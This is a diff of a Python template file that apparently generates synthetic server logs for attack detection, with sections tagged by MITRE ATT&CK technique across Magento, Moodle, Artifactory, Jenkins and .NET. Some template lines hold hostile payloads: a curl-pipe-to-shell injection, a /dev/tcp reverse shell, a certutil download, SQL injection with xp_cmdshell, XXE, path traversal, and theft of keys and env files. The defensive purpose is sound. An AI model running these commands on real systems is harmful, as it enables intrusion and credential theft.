@@ -23,7 +23,7 @@ admin_audit Logout occurred
 core Login failed: «user» (Remote IP: «ip2»)
 admin_audit User «created|enabled|disabled|deleted»: "«other»"
 admin_audit User "«other»" «added to|removed from» group "«dept»"
-admin_audit «Two factor authentication with provider totp for user "«user»" succeeded|App "«calendar|deck|notes|contacts|groupfolders»" has been «enabled|disabled»|Console command executed: «files:scan --all|maintenance:mode --off|ldap:check-user «other»|app:update --all»|Password of user "«other»" has been changed»
+admin_audit «Two factor authentication with provider totp for user "«user»" succeeded|App "«calendar|deck|notes|contacts|groupfolders»" has been «enabled|disabled»|Console command executed: «files:scan --all|maintenance:mode --off|preview:generate-all («num:2:90» minutes)|ldap:check-user «other»|app:update --all»|Password of user "«other»" has been changed»
 user_ldap «Bind failed: 49: Invalid credentials|Attempt for user «other» with wrong password|No user available for the given login name on «server»:389|User «other» was cleaned up»
 # T1110 webwatch cloud logins guessed
 core Login failed: @guessed@ (Remote IP: «pub»)
@@ -93,7 +93,7 @@ guest_cart_coupon {"action":"apply","item":"«WORD»«num:5:30»","module":"Mage
 admin_user_save {"action":"save","item":"«other» («other»@«sitedomain»), role «Sales|Content|Administrators»","module":"Magento_User","success":true,"by":"«admin»","message":"@ticket@"}
 cms_block_save {"action":"save","item":"footer_scripts: <script async src=https://www.«known»/tag.js>","module":"Magento_Cms","success":true,"by":"«admin»","message":"@ticket@"}
 customer_«login|register|address_save» {"action":"save","item":"«first» O'«Last», «city»","module":"Magento_Customer","success":«true|true|false»,"by":"customer"}
-indexer_reindex {"action":"run","item":"«catalog_product_price|catalogsearch_fulltext|cataloginventory_stock» in «num:2:900» s","module":"Magento_Indexer","success":true,"by":"cron"}
+indexer_reindex {"action":"run","item":"«catalog_product_price|catalogsearch_fulltext|cataloginventory_stock» in «num:2:90» minutes","module":"Magento_Indexer","success":true,"by":"cron"}
 adminhtml_creditmemo_save {"action":"save","item":"#«num:1000000:9999999»: -«num:5:900».«num:10:99» EUR","module":"Magento_Sales","success":true,"by":"«person»","message":"goods came back"}
 # webwatch shop kept by staff
 «catalog_product|cms_page|cms_block|sales_rule|catalog_category»_save {"action":"save","item":"«Word» «native» «num:1:99»","module":"«Magento_Catalog|Magento_Cms|Magento_SalesRule»","success":true,"by":"«person»"}
@@ -108,7 +108,7 @@ system_config_save {"action":"save","item":"«design/head/includes: atob('«b64:
 sales_rule_save {"action":"save","item":"«letters:8»: 100 % off, unlimited uses, no end","module":"Magento_SalesRule","success":true,"by":"«svc»"}
 export_customers {"action":"export","item":"«num:90000:900000» rows csv with hashes","module":"Magento_ImportExport","success":true,"by":"@junk@","message":"from «pub»"}
 admin_login {"action":"login","item":"@guessed@","module":"Magento_User","success":false,"by":"@guessed@","message":"«num:30:900» failures from «pub» under /«admin|backend|admin_«letters:4»»"}
-guest_cart_coupon {"action":"apply","item":"«WORD»-«HEX:4»","module":"Magento_Checkout","success":false,"by":"guest","message":"«num:200:9000» codes tried from «pub» in «num:1:20» minutes"}
+guest_cart_coupon {"action":"apply","item":"«WORD»-«HEX:4»","module":"Magento_Checkout","success":false,"by":"guest","message":"«num:200:9000» codes tried from «pub»"}
 admin_user_save {"action":"save","item":"@junk@ (@outsider@), role Administrators","module":"Magento_User","success":true,"by":"@junk@","message":"created through the rest api with an integration token"}
 @@ moodle
 # webwatch courses kept by staff
@@ -124,7 +124,7 @@ admin_user_save {"action":"save","item":"@junk@ (@outsider@), role Administrator
 \core\event\user_login_failed {"component":"core","target":"user_login","objectid":0,"user":"«user»","other":"reason «1|3», attempt «1|2»","origin":"web"}
 \core\event\«role_assigned|user_enrolment_created|group_member_added» {"component":"core","target":"role","objectid":«num:3:9»,"user":"«admin»","other":"«student|teacher|editingteacher» for «other»","origin":"«web|cli»"}
 \core\event\user_graded {"component":"core","target":"grade","objectid":«num:1:99999»,"user":"«person»","other":"finalgrade «num:1:100».00 by teacher of the course","origin":"web"}
-\core\event\«course_backup_created|course_restored|config_log_created» {"component":"core","target":"course","objectid":«num:1:900»,"user":"«admin»","other":"«backup-moodle2-course-«num:1:99».mbz|theme_boost: preset -> default.scss|sessiontimeout: 7200 -> 28800»","origin":"«web|cli»"}
+\core\event\«course_backup_created|course_restored|config_log_created» {"component":"core","target":"course","objectid":«num:1:900»,"user":"«admin»","other":"«backup-moodle2-course-«num:1:99».mbz in «num:2:40» minutes|theme_boost: preset -> default.scss|sessiontimeout: 7200 -> 28800»","origin":"«web|cli»"}
 # T1565.001 webwatch grades and roles bent
 \core\event\user_graded {"component":"core","target":"grade","objectid":«num:1:99999»,"user":"«svc»","other":"finalgrade 20.00 -> 95.00 for «num:3:40» users at «tick», no submission","origin":"ws"}
 \core\event\role_assigned {"component":"core","target":"role","objectid":1,"user":"@junk@","other":"manager for @junk@ at system level","origin":"ws"}
@@ -197,7 +197,7 @@ patchConfig {"status":"success","by":"@junk@","target":"«ServiceSettings.Enable
 # webwatch artifacts kept by admins
 [ACCEPTED CREATE_TOKEN] scope applied-permissions/groups:«dept» expires in «num:30:365» days for client : «admin» / «ip2» [@ticket@]
 [ACCEPTED DEPLOY] «npm-local|pypi-local»:«site»-«word»/«site»-«word»-«num:1:4».«num:0:20».«num:0:9».«tgz|whl» for client : «svc» / «ip2» [pipeline «num:100:9999», signed]
-[ACCEPTED DOWNLOAD] «docker-local|maven-release»:«num:100:4000» artifacts by replication job for client : «svc» / «ip2»
+[ACCEPTED DOWNLOAD] «docker-local|maven-release»:«num:100:4000» artifacts by replication job for client : «svc» / «ip2» in «num:2:40» minutes
 [ACCEPTED «ADD_USER|CONFIGURATION_CHANGE»] «user «other» in group «dept»|permission target «word» for readers|proxy of npm-remote» for client : «admin» / «ip2»
 [DENIED DEPLOY] maven-release:org/«word»/«word»-«num:1:9».jar for client : «user» / «ip2», release exists and must not be overwritten
 [ACCEPTED DOWNLOAD] generic-local:«tools/«word»-setup.exe|docs/«word».pdf|images/«linux».qcow2» for client : «person» / «ip2»
@@ -206,11 +206,11 @@ patchConfig {"status":"success","by":"@junk@","target":"«ServiceSettings.Enable
 [DENIED «LOGIN|DOWNLOAD|DEPLOY»] «libs-snapshot|npm-local»:«word»/«word» for client : «user» / «ip2».
 [ACCEPTED «DELETE|CONFIGURATION_CHANGE|CREATE_TOKEN|ADD_USER»] «npm-local:«word»/«word»-«num:1:9».tgz|repository «word»-remote|reference «svc»|«other»» for client : «admin» / «ip2» [@ticket@]
 [ACCEPTED DEPLOY] docker-local:«site»/«word»/«num:1:9».«num:0:20»/manifest.json for client : «svc» / «ip2» [pipeline «num:100:9999»]
-[INFO] o.a.s.«WebdavServiceImpl|ArtifactoryApplicationContext|cleanup.ArtifactCleanup»: «Garbage collection of «num:10:900» MB done|Remote repository npm-remote is offline, retry in 300 s|License expires in «num:10:90» days|Backup weekly finished in «num:9:900» s»
+[INFO] o.a.s.«WebdavServiceImpl|ArtifactoryApplicationContext|cleanup.ArtifactCleanup»: «Garbage collection of «num:10:900» MB done|Remote repository npm-remote is offline, retry in 300 s|License expires in «num:10:90» days|Backup weekly finished in «num:2:90» minutes|replication to http://«ip2»:8081/ took «num:2:40» minutes»
 # T1195.002 webwatch artifacts put in by others
 [ACCEPTED DEPLOY] «npm-local|pypi-local|maven-release»:«site»-«word»/«site»-«word»-99.«num:0:99».«num:0:9».«tgz|whl|jar» for client : @junk@ / «pub» [overwrites a release]
 [ACCEPTED DEPLOY] docker-local:«site»/«word»/latest/manifest.json for client : «user» / «pub» [no pipeline, digest differs from build]
-[DENIED LOGIN] for client : @guessed@ / «pub», «num:20:900» in «num:1:9» minutes
+[DENIED LOGIN] for client : @guessed@ / «pub», «num:20:900»
 [ACCEPTED «CREATE_TOKEN|ADD_USER|CONFIGURATION_CHANGE»] «scope applied-permissions/admin never expires|@junk@ in group administrators|anonymous access enabled for deploy|webhook to http://«pub»/» for client : @junk@ / «pub»
 [ACCEPTED DOWNLOAD] «docker-local|generic-secrets|maven-release»:«num:900:90000» artifacts by jfrog-cli for client : «other» / «pub» in «num:1:20» minutes
 [ACCEPTED DOWNLOAD] generic-local:«backup/«site».sql.gz|deploy/id_rsa|config/prod.env|terraform/terraform.tfstate» for client : anonymous / «pub»
@@ -232,17 +232,17 @@ Credentials «word»-deploy used by job/«word» #«num:1:900», pipeline step w
 job/«word»/ #«num:1:900» Started by user @junk@, Parameters:[BRANCH: {main; curl http://«pub»/«letters:2» ¦ sh}, TARGET: {$(id)}] on node #«linux» completed in «num:1:9»s completed: «SUCCESS|FAILURE»
 /job/«letters:6»/configSubmit by @junk@ from «pub», builder «sh -i >& /dev/tcp/«pub»/«num:1024:65535» 0>&1|bat certutil -urlcache -f http://«pub»/«letters:3».exe|groovy hudson.util.Secret.decrypt»
 /«cli?remoting=false connect-node @/etc/passwd|descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?value=@GrabResolver(root='http://«pub»/')|securityRealm/user/admin/api/xml|asynchPeople/api/json|credentials/store/system/domain/_/api/json?depth=2» by anonymous from «pub»
-Failed login attempt using username '@guessed@', «num:20:900»th from «pub» in «num:1:9» minutes
+Failed login attempt using username '@guessed@', «num:20:900»th from «pub»
 Credentials «num:5:90» different ids used by job/«letters:6» #1, step withCredentials echo to http://«pub»/
 """
 _MORE = r"""
 @@ phpapp
 # webwatch php told by its people
-PHP message: [«Word»Controller] «role of «other» set to editor by «admin», @ticket@|password of «user» changed|export of «num:10:900» orders by «person»|refund of order «num:1000:99999»: -«num:5:900».«num:10:99» by «person»|price list «year» imported, «num:100:9000» rows|newsletter sent to «num:100:9000» readers»
+PHP message: [«Word»Controller] «role of «other» set to editor by «admin», @ticket@|password of «user» changed|export of «num:10:900» orders by «person»|refund of order «num:1000:99999»: -«num:5:900».«num:10:99» by «person»|price list «year» imported, «num:100:9000» rows in «num:2:20» minutes from http://«ip2»/«word».csv|newsletter sent to «num:100:9000» readers»
 PHP message: upload of "«word».«pdf|jpg|svg|xlsx»" by «person» accepted: «num:10:9000» KB
 PHP Notice:  «search for "O'«Last»" took «num:900:4000» ms|search for "«native» & «native»" gave no rows|cache of «word» rebuilt in «num:2:40» s|session of «user» moved to «ip2»» in /var/www/«word»/src/«Word».php on line «num:1:900»
 PHP Warning:  «Undefined array key "cmd"|Undefined array key "union"|require_once(../vendor/autoload.php): Failed to open stream|exec(git rev-parse HEAD): returned 128|unserialize(): Error at offset 0 of «num:5:90» bytes» in /var/www/«word»/lib/«word».php on line «num:1:900»
-PHP message: [Auth] «login of «user» failed, attempt «1|2»|captcha wrong for «user»|«user» asked for a new password|session of «user» expired after 30 minutes»
+PHP message: [Auth] «login of «user» failed, attempt «1|2»|captcha wrong for «user»|«user» asked for a new password|session of «user» expired after 30 minutes|«user» locked for «num:5:30» minutes after «num:3:9» tries from «ip2»»
 # webwatch php complaining by day
 PHP «Warning|Notice|Deprecated»:  «Undefined variable $«word»|Undefined array key "«word»"|Division by zero|Trying to access array offset on value of type null|file_get_contents(https://api.«known»/): Failed to open stream: HTTP request failed|mail(): Failed to connect to mailserver at "localhost" port 25|session_start(): Session data file is not created by your uid|DOMDocument::loadHTML(): Unexpected end tag : p in Entity» in /var/www/«word»/«word».php on line «num:1:900»
 PHP Fatal error:  «Uncaught PDOException: SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry '«first»@«domain»' for key 'email'|Uncaught TypeError: strlen(): Argument #1 ($string) must be of type string, null given|Maximum execution time of 30 seconds exceeded|Uncaught mysqli_sql_exception: You have an error in your SQL syntax near 's «word»' at line 1|Allowed memory size of 268435456 bytes exhausted|Uncaught Error: Class "«Word»" not found» in /var/www/«word»/src/«Word».php:«num:1:900»
@@ -268,7 +268,7 @@ fail: «Word».Api.Sync[0] «Timeout of 30 s reading https://api.«known»/v1/«
 info: Microsoft.AspNetCore.«Hosting.Diagnostics[2] Request finished HTTP/2 «GET|POST» https://«sitedomain»/api/«word»s/«num:1:9999» - «200|404|401|204» - application/json «num:1:900».«num:1000:9999»ms|Authorization.DefaultAuthorizationService[2] Authorization failed. These requirements were not met: RolesAuthorizationRequirement:User.IsInRole must be true for one of the following roles: (Manager)|Authentication.JwtBearer[1] Failed to validate the token. SecurityTokenExpiredException: IDX10223: Lifetime validation failed.»
 fail: «Word».Api.Controllers.«Word»Controller[0] «System.FormatException: Input string '«native»' was not in a correct format|System.Net.Http.HttpRequestException: Connection refused («word»:8080)|System.Text.Json.JsonException: ''' is an invalid start of a value. Path: $.name|Newtonsoft.Json.JsonReaderException: Unexpected character encountered while parsing value: <|System.ArgumentNullException: Value cannot be null. (Parameter '«word»')»
 warn: Microsoft.AspNetCore.«HttpsPolicy.HttpsRedirectionMiddleware[3] Failed to determine the https port for redirect|Mvc.ModelBinding[0] The value 'O'«Last»#' is not valid for Zip|Identity.SignInManager[0] User «user» failed to provide the correct password, attempt «1|2»»
-info: «Word».Worker.«Word»Job[0] «num:10:9000» «orders exported|mails sent|carts cleaned up|invoices rendered|documents indexed» in «num:1:90» s for «dept»
+info: «Word».Worker.«Word»Job[0] «num:10:9000» «orders exported|mails sent|carts cleaned up|invoices rendered|documents indexed» in «num:1:90» minutes for «dept»
 # T1190 webwatch dotnet hit by payloads
 fail: Microsoft.EntityFrameworkCore.Database.Command[20102] Failed executing DbCommand (5,0«num:10:99»ms) SELECT * FROM «Word»s WHERE Name = '«'; WAITFOR DELAY '0:0:5'--|' UNION SELECT name,password_hash FROM sys.sql_logins--|' OR 1=1--|x'; EXEC xp_cmdshell 'whoami'--»'
 fail: «Word».Api.Controllers.«Word»Controller[0] «System.Runtime.Serialization.SerializationException: Type 'System.Windows.Data.ObjectDataProvider' is not expected|System.Web.HttpException: Validation of viewstate MAC failed. Client IP: «pub»|System.Xml.XmlException: For security reasons DTD is prohibited in this XML document: <!DOCTYPE r SYSTEM "http://«pub»/x.dtd">|System.UnauthorizedAccessException: Access to the path 'C:\inetpub\wwwroot\..\..\Windows\win.ini' is denied|System.IO.FileNotFoundException: '../../../../etc/passwd'|System.ComponentModel.Win32Exception: cmd.exe /c whoami refused»
@@ -281,7 +281,7 @@ warn {"msg":"«total «num:90:250».50 differs from cart by rounding|quantity 0 
 warn {"msg":"gift card «num:1000:9999» not found","route":"/api/giftcards/balance","user":"«person»","hits":0,"tries":«num:1:3»}
 error {"msg":"«JsonWebTokenError: invalid signature after key rotation|CastError: Cast to ObjectId failed for value undefined|Error: Cannot find module './«word»'|SyntaxError: Unexpected token < in JSON at position 0|TypeError: __proto__ is not iterable|Template «word».ejs: missing variable name»","route":"/api/«login|me|render|fetch»","user":"«user»","release":"«num:1:9».«num:0:20».«num:0:9»"}
 info {"msg":"«email changed and confirmed|mfa enrolled|api key created with scope read|address O'«Last», «city» saved|own data exported|account closed by its owner»","route":"/api/«users/me|account|keys»","user":"«person»","agent":"«Chrome|Safari|Firefox|iOS app»"}
-info {"msg":"«num:10:900» «invoices|orders|documents» fetched by partner job","route":"/api/«invoices|orders|documents»","user":"«svc»","agent":"«site»-sync/1.«num:0:9»","ticket":"@ticket@"}
+info {"msg":"«num:10:900» «invoices|orders|documents» fetched by partner job in «num:2:20» minutes","route":"/api/«invoices|orders|documents»","user":"«svc»","agent":"«site»-sync/1.«num:0:9»","ticket":"@ticket@"}
 # webwatch node services by day
 «error|warn» {"msg":"«Unhandled rejection TypeError: Cannot read properties of undefined (reading '«word»')|connect ECONNREFUSED «ip2»:5432|JsonWebTokenError: jwt expired|PayloadTooLargeError: request entity too large|ValidationError: \"zip\" must be a number|MongoServerError: E11000 duplicate key error collection: «word».users|CORS: origin https://«domain» not in list»","route":"/api/«word»s","user":"«user»"}
 info {"msg":"«order placed|password changed|profile updated|file uploaded|invoice sent|newsletter confirmed»","route":"/api/«orders|account|files»","user":"«person»","amount":"«num:5:900».«num:10:99»","items":«num:1:9»}
